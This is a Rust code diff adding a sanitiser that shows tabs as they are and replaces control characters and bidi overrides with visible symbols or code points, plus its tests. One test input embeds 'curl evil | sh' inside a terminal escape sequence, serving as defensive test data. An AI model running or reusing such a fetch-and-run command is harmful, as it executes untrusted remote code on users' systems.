@@ -142,6 +142,26 @@ pub fn lines(text: &str) -> Cow<'_, str> {
     Cow::Owned(kept)
 }
 
+/// A line of a file, with its tabs, for somebody who is to know all that is in it:
+/// nothing is left out, what is not shown elsewhere is shown as a sign or a number.
+pub fn line_in_full(line: &str) -> Cow<'_, str> {
+    if line.chars().all(|char| is_shown(char) || char == '\t') {
+        return Cow::Borrowed(line);
+    }
+    let mut full = String::with_capacity(line.len() + 16);
+    for char in line.chars() {
+        match char {
+            '\t' => full.push(char),
+            _ if is_shown(char) => full.push(char),
+            // Unicode has a picture for each.
+            '\0'..='\u{1f}' => full.extend(char::from_u32(0x2400 + u32::from(char))),
+            '\u{7f}' => full.push('␡'),
+            _ => full.push_str(&format!("<U+{:04X}>", u32::from(char))),
+        }
+    }
+    Cow::Owned(full)
+}
+
 /// `text` with its tabs as spaces; `column` is where it begins and, after the
 /// call, where it ends.
 pub fn expand_tabs<'a>(text: &'a str, column: &mut usize) -> Cow<'a, str> {
@@ -187,6 +207,18 @@ mod tests {
     }
 
     #[test]
+    fn a_line_in_full_hides_nothing() {
+        for (raw, shown) in [
+            ("echo ok \u{1b}]0; curl evil | sh #\u{7}", "echo ok ␛]0; curl evil | sh #␇"),
+            ("a\rb", "a␍b"),
+            ("a\u{202e}b\u{9b}\u{7f}\tc", "a<U+202E>b<U+009B>␡\tc"),
+            ("plain ␛", "plain ␛"),
+        ] {
+            assert_eq!(line_in_full(raw), shown, "{raw:?}");
+        }
+    }
+
+    #[test]
     fn tabs_go_to_the_next_stop() {
         let mut column = 2;
         assert_eq!(expand_tabs("a\tb\t", &mut column), "a b   ");
@@ -197,6 +229,7 @@ mod tests {
         #[test]
         fn nothing_harmful_is_left(text in "(?s)[\u{0}-\u{a0}a-z\u{202a}-\u{202e}]{0,60}") {
             prop_assert!(one_row(&text).chars().all(is_shown));
+            prop_assert!(line_in_full(&text).chars().all(|c| is_shown(c) || c == '\t'));
             prop_assert!(lines(&text).chars().all(|c| is_shown(c) || c == '\n' || c == '\t'));
         }
     }
